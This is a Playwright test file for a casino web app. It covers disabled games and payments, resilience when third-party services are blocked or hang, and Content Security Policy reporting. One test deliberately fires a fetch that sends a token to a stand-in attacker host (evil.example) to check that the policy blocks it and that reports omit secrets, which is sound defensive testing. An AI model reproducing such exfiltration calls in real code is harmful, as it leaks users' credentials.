import { expect } from '@playwright/test'
import { OPERATOR_GONE, PASSWORD, REJECTED_BY_OPERATOR, newEmail } from './support/fixtures.ts'
import { test } from './support/third-parties.ts'
import { say, saying } from './support/texts.ts'
import { TAG_FRAME, checkRobotBox } from './support/third-party-frames.ts'

test.use({ hasServiceWorkers: false })

test('a game that is switched off leaves menu and home, and deposits that are switched off say so', async ({
  casino,
  control,
  page,
  players,
}) => {
  await control.set({ flags: ['disable-crash', 'disable-deposits', 'disable-withdrawals'] })
  await players.enter({ balance: '1000.00' })
  await page.setViewportSize({ width: 1440, height: 900 })
  await casino.open()
  const dice = page.getByRole('link', { name: 'Dice', exact: true })
  const crash = page.getByRole('link', { name: 'Crash', exact: true })
  // In the rail and in the row of original games.
  await expect(dice).toHaveCount(2)
  await expect(crash).toHaveCount(0)

  await casino.frame.deposit()
  await expect(casino.payIn.dialog).toContainText(saying('deposit.none'))
  await casino.open('/games/crash')
  await expect(page.locator('#bet-why')).toHaveText(saying('bet.off.switchedOff'))
  await expect(page.getByRole('button', { name: 'Bet', exact: true }).first()).toHaveAttribute('aria-disabled', 'true')
})

test('the app works with every third party blocked, and each place says so', async ({
  casino,
  control,
  page,
  quiet,
  vendor,
}) => {
  quiet.allow(OPERATOR_GONE)
  quiet.allow(REJECTED_BY_OPERATOR)
  await page.route(`${vendor}/**`, (route) => (route.request().url().includes('chat') ? undefined : route.abort()))
  await control.set({ captcha: true })
  await page.clock.install()
  await casino.open()
  await expect(page.locator(TAG_FRAME)).toHaveCount(1)
  await casino.frame.support.click()
  const panel = page.getByRole('dialog', { name: 'Support', exact: true })
  await expect(panel).toContainText(say('chat.loading'))

  await casino.frame.signUp()
  const form = { email: newEmail(), password: PASSWORD, accepted: true }
  await casino.signUp.register(form)
  await expect(casino.signUp.dialog).toContainText(saying('captcha.failed'))
  await expect(casino.signUp.dialog).not.toContainText(/captcha/i)
  await casino.signUp.hasValues(form)
  await casino.signUp.close()
  await casino.frame.goTo('Slots')
  await expect(casino.frame.heading('Slots')).toBeVisible()
  await page.clock.fastForward(15_000)
  await expect(panel).toContainText(say('chat.failed'))

  await page.unroute(`${vendor}/**`)
  await panel.getByRole('button', { name: 'Try again', exact: true }).click()
  await expect(panel.frameLocator('iframe').getByRole('button', { name: 'Send' })).toBeVisible()
  await panel.getByRole('button', { name: 'Close', exact: true }).click()
  await casino.frame.signUp()
  await casino.signUp.register(form)
  await checkRobotBox(casino.signUp.dialog)
  await casino.frame.isOfPlayer()
})

test('the app starts while every third party hangs, and a visitor can sign up and navigate', async ({
  casino,
  context,
  page,
  vendor,
}) => {
  const asked = new Set<string>()
  const collector = vendor.replace('vendor', 'collector')
  // These requests are never answered.
  await context.route(
    (url) => [vendor, collector].includes(url.origin),
    (route) => void asked.add(new URL(route.request().url()).hostname),
  )
  await casino.open()
  await expect(page.locator(TAG_FRAME)).toHaveCount(1)
  await casino.frame.signUp()
  await casino.signUp.register({ email: newEmail(), password: PASSWORD, accepted: true })
  await casino.frame.isOfPlayer()
  await casino.frame.goTo('Slots')
  await expect(casino.frame.heading('Slots')).toBeVisible()
  await expect.poll(() => asked.size).toBe(2)
})

test('what the policy has blocked is reported by directive and origin, without addresses', async ({
  casino,
  control,
  page,
  quiet,
}) => {
  quiet.allow(/Content Security Policy|violates the following/)
  await casino.open('/faq?phone=77010000001')
  await expect(casino.frame.heading(say('nav.faq'))).toBeVisible()
  const report = async () => (await control.requests({ path: '/envelope/$' })).map(({ body }) => body ?? '').join()
  await expect
    .poll(async () => {
      await page.evaluate(() => fetch('https://evil.example/?token=secret').catch(() => undefined))
      return report()
    })
    .toContain('policy: connect-src blocked https://evil.example')
  expect(await report()).not.toMatch(/secret|77010000001/)
})
